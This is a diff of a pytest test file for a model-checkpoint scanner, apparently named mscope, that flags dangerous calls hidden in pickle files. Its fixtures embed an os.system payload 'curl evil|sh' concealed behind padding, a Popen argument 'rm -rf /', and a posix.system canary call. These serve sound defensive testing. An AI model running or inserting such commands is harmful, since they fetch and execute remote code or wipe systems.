@@ -53,14 +53,85 @@ def test_exit_codes(here, arguments, code):
 
 def test_what_a_person_reads(here):
     done = mscope("scan", "evil.pt", columns=100)
-    assert done.out.splitlines()[:4] == [
+    assert done.out.splitlines()[:3] == [
         "Path                           evil.pt",
-        f"Verdict                        dangerous: calls posix.system('touch {CANARY}')",
+        "Verdict                        dangerous: loading it can run what its author wanted",
         f"Size                           {len(EVIL)} B",
-        "torch.load(weights_only=True)  refuses posix.system at byte 2",
     ]
-    assert re.search(r"✗ evil/data.pkl byte \d+: it calls posix.system\('touch", done.out)
+    assert "weights_only=True)  refuses" in done.out
+    assert re.search(r"dangerous  evil/data.pkl byte \d+  it calls posix.system\('touch", done.out)
+    assert "✗ Do not load the file." in done.out
+    assert re.search(r"\ndangerous  posix.system +1  evil/data.pkl byte 2 ", done.out)
     assert "Not looked at" not in done.out
+
+
+def test_what_a_person_reads_of_an_honest_file(here):
+    done = mscope("scan", "good.pt", columns=100)
+    assert "safe: loading it executes nothing but what weights need" in done.out
+    assert re.search(r"\nsafe     torch._utils._rebuild_tensor_v2 +\d+ ", done.out)
+    assert "What to do" not in done.out
+
+
+@pytest.mark.parametrize("hidden", ["#" + " " * 60 + "\ncurl evil|sh", "x" * 500 + "curl evil|sh", "a\n" * 300 + "curl evil|sh"])
+def test_the_end_of_an_argument_is_shown_and_machines_get_all_of_it(here, hidden):
+    (here / "long.pkl").write_bytes(pickled(call("os.system", hidden)))
+    assert "curl evil|sh')" in mscope("scan", "long.pkl", columns=200).out
+    for format in ("json", "sarif"):
+        document = json.loads(mscope("scan", "long.pkl", "-f", format).out)
+        found = document["checkpoints"][0]["findings"][0] if format == "json" else document["runs"][0]["results"][0]["properties"]
+        assert found["evidence"] == f"os.system({hidden!r})"
+    (here / "many.pkl").write_bytes(pickled(call("subprocess.Popen", [str(number) for number in range(30)] + ["rm -rf /"])))
+    assert re.search(r"24|25 more", mscope("scan", "many.pkl", columns=200).out)
+    assert "'rm -rf /'" in mscope("scan", "many.pkl", columns=200).out
+
+
+def test_nothing_to_scan_is_no_success(here):
+    (here / "empty").mkdir()
+    done = mscope("scan", "empty")
+    assert (done.code, done.out) == (3, "")
+    assert "empty: no files to scan" in done.err
+    (here / "bare" / ".git").mkdir(parents=True)
+    (here / "bare" / ".git" / "x.pkl").write_bytes(EVIL)
+    bare = mscope("scan", "bare")
+    assert bare.code == 3
+    assert "bare/.git: a repository's own files: left out" in bare.err
+    assert mscope("scan", "bare/.git").code == 1
+
+
+def test_a_file_is_scanned_once_and_own_outputs_never(here):
+    for expected in (0, 0):
+        (here / "set").mkdir(exist_ok=True)
+        (here / "set" / "good.pt").write_bytes(SAMPLES["state_dict.pt"])
+        done = mscope("scan", "set/good.pt", "set", "set/good.pt", "-o", "set/scan.sarif", "-o", "set/scan.json")
+        assert (done.code, done.err) == (expected, "")
+        (report,) = json.loads((here / "set" / "scan.json").read_text())["checkpoints"]
+        assert (report["file_count"], len(report["files"])) == (1, 1)
+
+
+def test_files_that_cannot_be_opened_have_a_row(here):
+    (here / "set").mkdir()
+    (here / "set" / "good.pt").write_bytes(SAMPLES["state_dict.pt"])
+    (here / "set" / "gone.pt").symlink_to(here / "nothing")
+    done = mscope("scan", "set", columns=100)
+    assert done.code == 3
+    assert "1 safe, 1 not read" in done.out
+    assert re.search(r"not read  gone.pt  a symbolic link to something that is not there", done.out)
+    (report,) = json.loads(mscope("scan", "set", "-f", "json").out)["checkpoints"]
+    assert {(os.path.basename(row["path"]), row["verdict"]) for row in report["files"]} == {("good.pt", "safe"), ("gone.pt", "not read")}
+    alone = mscope("scan", "set/gone.pt", columns=100)
+    assert (alone.code, "Verdict  not read" in alone.out) == (3, True)
+
+
+def test_annotations_name_the_file(here):
+    done = mscope("scan", "good.pt", "evil.pt", "odd.pkl", "--github")
+    assert re.search(r"^::error title=dangerous-import,file=evil.pt::evil/data.pkl byte \d+: it calls posix.system", done.out, re.M)
+    assert re.search(r"^::warning title=suspicious-import,file=odd.pkl::byte \d+", done.out, re.M)
+    assert "and 2 more" not in "".join(line for line in done.out.splitlines() if line.startswith("::"))
+
+
+def test_markdown_keeps_a_call_in_one_piece(here):
+    done = mscope("scan", "evil.pt", "-f", "markdown")
+    assert f"it calls `posix.system('touch {CANARY}')`: `posix.system` " in done.out
 
 
 def test_a_folder(here):
@@ -69,11 +140,12 @@ def test_a_folder(here):
     lines = done.out.splitlines()
     table = lines[lines.index("Verdict     File       Why") + 1 :][:5] if "Verdict     File       Why" in lines else lines
     assert words(done.out).startswith("Path . Verdict 1 dangerous, 1 suspicious, 2 unknown, 1 safe, 1 not judged Files 6")
+    assert "./.git: a repository's own files: left out" in done.out
     order = [
         line.split()[0] for line in table if line.split() and line.split()[0] in ("dangerous", "suspicious", "unknown", "safe")
     ]
     assert order[:3] == ["dangerous", "suspicious", "unknown"]
-    assert "1 file is no models: README.md" in words(done.out)
+    assert re.search(r"not judged +README.md +this is a text file", done.out)
     assert "index.pkl" not in done.out
 
 
@@ -94,7 +166,7 @@ def test_two_hundred_files(here):
     assert time.monotonic() - began < 20
     assert (done.code, done.err) == (1, "")
     assert words(done.out).startswith("Path many Verdict 1 dangerous, 200 safe Files 201")
-    assert "(141 more: 141 safe)" in done.out
+    assert re.search(r"141 more files +141 safe", done.out)
     document = json.loads(mscope("scan", "many", "-f", "json").out)
     assert len(document["checkpoints"][0]["files"]) == 201
 
@@ -141,8 +213,9 @@ def test_sarif_is_sarif(here):
         assert result["message"]["text"]
         place = result["locations"][0]["physicalLocation"]
         assert place["artifactLocation"]["uri"] in ("evil.pt", "odd.pkl", "cut.pt", "shop.pkl")
-        assert place["region"] in ({"startLine": 1},) or place["region"]["byteOffset"] >= 0
-        assert result["partialFingerprints"]
+        assert place["region"]["startLine"] == 1
+        assert place["region"].get("byteOffset", 0) >= 0
+        assert re.fullmatch(r"[0-9a-f]{16}:1", result["partialFingerprints"]["primaryLocationLineHash"])
         levels.add(result["level"])
     assert levels == {"error", "warning", "note"}
     evil = next(result for result in run["results"] if result["level"] == "error")
@@ -162,7 +235,7 @@ def test_documents_from_one_scan(here):
     assert "dangerous" in done.out  # the log has the verdict whatever goes into files
     for file in files:
         text = (here / file).read_text(encoding="utf-8")
-        assert "dangerous" in text or file == "out.sarif", file
+        assert "dangerous" in text, file
         assert "posix.system" in text, file
 
 
@@ -176,6 +249,33 @@ def test_a_policy(here):
     (here / "bad.toml").write_text("[[allow]]\nnames = ['shop.*']\n")
     refused = mscope("scan", "shop.pkl", "--policy", "bad.toml")
     assert (refused.code, "say why" in words(refused.err)) == (2, True)
+
+
+def test_the_policy_and_the_level_of_mscope_toml(here):
+    (here / "rules").mkdir()
+    (here / "rules" / "names.toml").write_text('[[allow]]\nnames = ["shop.*"]\nreason = "ours"\n')
+    (here / "mscope.toml").write_text('[scan]\npolicy = "rules/names.toml"\nfail-on = "unknown"\n')
+    assert mscope("scan", "shop.pkl").code == 0
+    (here / "mscope.toml").write_text('[scan]\nfail-on = "unknown"\n')
+    assert mscope("scan", "shop.pkl").code == 1
+    assert mscope("scan", "shop.pkl", "--fail-on", "suspicious").code == 0
+    folder = here / "download"
+    folder.mkdir()
+    (folder / "mscope.toml").write_text('[scan]\nfail-on = "never"\n')
+    (folder / "evil.pt").write_bytes(EVIL)
+    assert mscope("scan", "download").code == 1
+
+
+def test_links_are_told_or_judged_by_what_they_are_called(here):
+    folder = here / "linked"
+    folder.mkdir()
+    (folder / "a.txt").write_bytes(SAMPLES["state_dict.pt"])
+    (folder / "b.pt").symlink_to(folder / "a.txt")
+    (folder / "elsewhere").symlink_to(here, target_is_directory=True)
+    done = mscope("scan", "linked", columns=120)
+    assert done.code == 0
+    assert "2 safe" in done.out
+    assert "linked/elsewhere: a link to a folder: left out, name it to have it scanned" in words(done.out)
 
 
 def test_hostile_names_are_shown_and_not_sent(here):
@@ -195,8 +295,9 @@ def test_what_is_no_file_in_a_folder(here):
     (here / "gone.pt").symlink_to(here / "nothing")
     done = process("scan", ".")
     assert done.returncode == 1
-    assert "FIFO" in done.stderr
-    assert "gone.pt: a symbolic link to something that is not there" in done.stderr
+    assert "3 files could not be read, or not to the end: cut.pt, gone.pt, pipe.pt" in done.stderr
+    assert "FIFO" in done.stdout
+    assert "a symbolic link to something that is not there" in words(done.stdout)
 
 
 def test_missing_shards_are_told_of_a_folder(here):
